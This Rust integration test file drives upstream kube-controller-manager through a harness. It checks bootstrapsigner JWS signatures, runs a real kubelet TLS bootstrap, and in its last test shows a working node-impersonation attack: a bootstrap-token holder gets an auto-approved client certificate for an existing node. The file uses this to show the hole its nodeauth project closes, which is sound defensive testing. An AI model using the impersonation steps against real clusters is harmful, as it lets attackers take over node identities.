//! Upstream kube-controller-manager v1.37.1 — the peer nodeauth replaces — driven through the
//! harness: its bootstrapsigner, a real kubelet's TLS bootstrap through its CSR controllers,
//! and the hole nodeauth exists to close.
//!
//! One KCM serves every test in this binary (two KCMs would race for the same CSRs).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)] // test code: a broken expectation should stop loudly
use std::sync::{Mutex, OnceLock};
use std::time::Duration;

use base64ct::{Base64UrlUnpadded, Encoding};
use hmac::{KeyInit, Mac};
use k8s_openapi::api::certificates::v1::{
    CertificateSigningRequest, CertificateSigningRequestSpec,
};
use k8s_openapi::api::core::v1::{ConfigMap, Node};
use kube::api::{Api, ListParams, ObjectMeta, PostParams};
use kube::runtime::wait::await_condition;
use nodeauth_testenv::{
    ControlPlane, Credential, Kcm, KcmOptions, KubeletOptions, bind_kubeadm_node_bootstrap,
    create_bootstrap_token, unique_name,
};

fn cp() -> &'static ControlPlane {
    ControlPlane::shared().expect("control plane")
}

fn kcm() -> &'static Mutex<Kcm> {
    static KCM: OnceLock<Mutex<Kcm>> = OnceLock::new();
    KCM.get_or_init(|| {
        let kcm = cp()
            .start_kcm(&KcmOptions::controllers(&[
                "bootstrapsigner",
                "tokencleaner",
                "csrapproving",
                "csrsigning",
            ]))
            .expect("kube-controller-manager");
        Mutex::new(kcm)
    })
}

async fn wait<T>(what: &str, secs: u64, fut: impl std::future::Future<Output = T>) -> T {
    match tokio::time::timeout(Duration::from_secs(secs), fut).await {
        Ok(v) => v,
        Err(_) => {
            if let Ok(mut k) = kcm().lock()
                && let Err(e) = k.check_running()
            {
                panic!("timed out waiting for {what}; {e}");
            }
            panic!("timed out after {secs}s waiting for {what}")
        }
    }
}

/// The detached JWS upstream's bootstrapsigner writes, computed here independently:
/// HS256 over `b64url(header) "." b64url(content)` with the token secret as key.
fn expected_jws(content: &str, id: &str, secret: &str) -> String {
    let header =
        Base64UrlUnpadded::encode_string(format!(r#"{{"alg":"HS256","kid":"{id}"}}"#).as_bytes());
    let payload = Base64UrlUnpadded::encode_string(content.as_bytes());
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret.as_bytes()).unwrap();
    mac.update(format!("{header}.{payload}").as_bytes());
    format!(
        "{header}..{}",
        Base64UrlUnpadded::encode_string(&mac.finalize().into_bytes())
    )
}

#[tokio::test]
async fn bootstrapsigner_signature_equals_an_independent_hmac() {
    let _ = kcm();
    let admin = cp().admin_client().await.unwrap();
    let cms: Api<ConfigMap> = Api::namespaced(admin.clone(), "kube-public");
    let kubeconfig = cp().kubeconfig("unused", &Credential::None);
    let cm = ConfigMap {
        metadata: ObjectMeta {
            name: Some("cluster-info".into()),
            ..Default::default()
        },
        data: Some([("kubeconfig".to_string(), kubeconfig)].into()),
        ..Default::default()
    };
    match cms.create(&PostParams::default(), &cm).await {
        Ok(_) => {}
        Err(kube::Error::Api(s)) if s.code == 409 => {}
        Err(e) => panic!("{e}"),
    }
    let token = create_bootstrap_token(&admin, &[]).await.unwrap();
    let (id, secret) = token.split_once('.').unwrap();
    let key = format!("jws-kubeconfig-{id}");
    let k2 = key.clone();
    let cm = wait(
        "the bootstrapsigner to sign cluster-info",
        60,
        await_condition(
            cms.clone(),
            "cluster-info",
            move |cm: Option<&ConfigMap>| {
                cm.and_then(|c| c.data.as_ref())
                    .is_some_and(|d| d.contains_key(&k2))
            },
        ),
    )
    .await
    .unwrap()
    .unwrap();
    let data = cm.data.unwrap();
    assert_eq!(data[&key], expected_jws(&data["kubeconfig"], id, secret));
}

#[test]
fn expected_jws_reproduces_the_published_upstream_vector() {
    // cluster-bootstrap's published vector, so the check above is itself checked.
    assert_eq!(
        expected_jws(
            "Hello from the other side. I must have called a thousand times.",
            "joshua",
            "my voice is my passcode"
        ),
        "eyJhbGciOiJIUzI1NiIsImtpZCI6Impvc2h1YSJ9..VShe2taLd-YTrmWuRkcL_8QTNDHYxQIEBsAYYiIj1_8"
    );
}

#[tokio::test]
async fn a_real_kubelet_bootstraps_through_upstream_kcm() {
    let _ = kcm();
    let admin = cp().admin_client().await.unwrap();
    let group = format!("system:bootstrappers:{}", unique_name("kubelet"));
    bind_kubeadm_node_bootstrap(&admin, &group).await.unwrap();
    let token = create_bootstrap_token(&admin, &[&group]).await.unwrap();
    let node_name = unique_name("kubelet");
    let bootstrap = cp().kubeconfig("kubelet-bootstrap", &Credential::Token(token));
    let mut kubelet = cp()
        .start_kubelet(&KubeletOptions::bootstrap(&node_name, bootstrap))
        .expect("kubelet");

    let nodes: Api<Node> = Api::all(admin.clone());
    let ready = |n: Option<&Node>| {
        n.and_then(|n| n.status.as_ref())
            .and_then(|s| s.conditions.as_ref())
            .is_some_and(|cs| cs.iter().any(|c| c.type_ == "Ready" && c.status == "True"))
    };
    let r = tokio::time::timeout(
        Duration::from_secs(90),
        await_condition(nodes.clone(), &node_name, ready),
    )
    .await;
    if r.is_err() {
        let _ = kubelet.process_mut().check_running();
        panic!(
            "node {node_name} not Ready in 90s; kubelet log tail:\n{}",
            kubelet.process_mut().log_tail(40)
        );
    }
    let node = r.unwrap().unwrap().unwrap();
    assert!(
        kubelet
            .cert_dir()
            .join("kubelet-client-current.pem")
            .exists()
    );

    // The serving CSR: SANs equal to the Node's addresses (KCM never approves it).
    let csrs: Api<CertificateSigningRequest> = Api::all(admin.clone());
    let username = format!("system:node:{node_name}");
    let serving = wait("the kubelet-serving CSR", 60, async {
        loop {
            let list = csrs.list(&ListParams::default()).await.unwrap();
            if let Some(c) = list.items.into_iter().find(|c| {
                c.spec.signer_name == "kubernetes.io/kubelet-serving"
                    && c.spec.username.as_deref() == Some(&username)
            }) {
                return c;
            }
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
    })
    .await;
    let pem = String::from_utf8(serving.spec.request.0.clone()).unwrap();
    let req = rcgen::CertificateSigningRequestParams::from_pem(&pem).unwrap();
    let mut dns = vec![];
    let mut ips = vec![];
    for san in &req.params.subject_alt_names {
        match san {
            rcgen::SanType::DnsName(d) => dns.push(d.as_str().to_string()),
            rcgen::SanType::IpAddress(ip) => ips.push(ip.to_string()),
            other => panic!("unexpected SAN {other:?}"),
        }
    }
    let addrs = node.status.unwrap().addresses.unwrap();
    let mut want_dns: Vec<String> = addrs
        .iter()
        .filter(|a| a.type_ == "Hostname")
        .map(|a| a.address.clone())
        .collect();
    let mut want_ips: Vec<String> = addrs
        .iter()
        .filter(|a| a.type_ == "InternalIP" || a.type_ == "ExternalIP")
        .map(|a| a.address.clone())
        .collect();
    for v in [&mut dns, &mut ips, &mut want_dns, &mut want_ips] {
        v.sort();
    }
    assert_eq!(dns, want_dns, "DNS SANs vs Node addresses {addrs:?}");
    assert_eq!(ips, want_ips, "IP SANs vs Node addresses {addrs:?}");
    assert!(!ips.is_empty());
}

/// THE HOLE: with kubeadm's default bindings, anyone holding a bootstrap token gets a client
/// certificate for an EXISTING node from upstream KCM, and can act as that node.
#[tokio::test]
async fn upstream_kcm_lets_a_token_holder_impersonate_an_existing_node() {
    let _ = kcm();
    let admin = cp().admin_client().await.unwrap();
    let victim = unique_name("victim");
    create_node(cp().node_client(&victim).await.unwrap(), &victim).await;

    let group = format!("system:bootstrappers:{}", unique_name("impostor"));
    bind_kubeadm_node_bootstrap(&admin, &group).await.unwrap();
    let token = create_bootstrap_token(&admin, &[&group]).await.unwrap();
    let attacker = cp().client(&Credential::Token(token)).await.unwrap();

    let key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, format!("system:node:{victim}"));
    params
        .distinguished_name
        .push(rcgen::DnType::OrganizationName, "system:nodes");
    let request = params.serialize_request(&key).unwrap().pem().unwrap();
    let name = unique_name("impostor-csr");
    let csrs: Api<CertificateSigningRequest> = Api::all(attacker);
    csrs.create(
        &PostParams::default(),
        &CertificateSigningRequest {
            metadata: ObjectMeta {
                name: Some(name.clone()),
                ..Default::default()
            },
            spec: CertificateSigningRequestSpec {
                request: k8s_openapi::ByteString(request.into_bytes()),
                signer_name: "kubernetes.io/kube-apiserver-client-kubelet".into(),
                usages: Some(vec!["digital signature".into(), "client auth".into()]),
                ..Default::default()
            },
            status: None,
        },
    )
    .await
    .expect("a bootstrap token may create CSRs");
    let admin_csrs: Api<CertificateSigningRequest> = Api::all(admin.clone());
    let issued = wait(
        "KCM to approve and sign the impostor CSR",
        60,
        await_condition(
            admin_csrs,
            &name,
            |c: Option<&CertificateSigningRequest>| {
                c.and_then(|c| c.status.as_ref())
                    .and_then(|s| s.certificate.as_ref())
                    .is_some()
            },
        ),
    )
    .await
    .unwrap()
    .unwrap();
    let status = issued.status.unwrap();
    assert!(
        status
            .conditions
            .unwrap_or_default()
            .iter()
            .any(|c| c.type_ == "Approved" && c.reason.as_deref() == Some("AutoApproved")),
        "upstream auto-approved it"
    );
    let cert_pem = String::from_utf8(status.certificate.unwrap().0).unwrap();
    let as_victim = cp()
        .client(&Credential::ClientCert {
            cert_pem,
            key_pem: key.serialize_pem(),
        })
        .await
        .unwrap();
    let me = nodeauth_testenv::whoami(&as_victim).await.unwrap();
    assert_eq!(
        me.username.as_deref(),
        Some(format!("system:node:{victim}").as_str())
    );
    let node = Api::<Node>::all(as_victim)
        .get(&victim)
        .await
        .expect("the impostor reads the victim's Node");
    assert_eq!(node.metadata.name.as_deref(), Some(victim.as_str()));
}

async fn create_node(client: kube::Client, name: &str) {
    Api::<Node>::all(client)
        .create(
            &PostParams::default(),
            &nodeauth_testenv::named::<Node>(name),
        )
        .await
        .expect("the victim node registers itself");
}
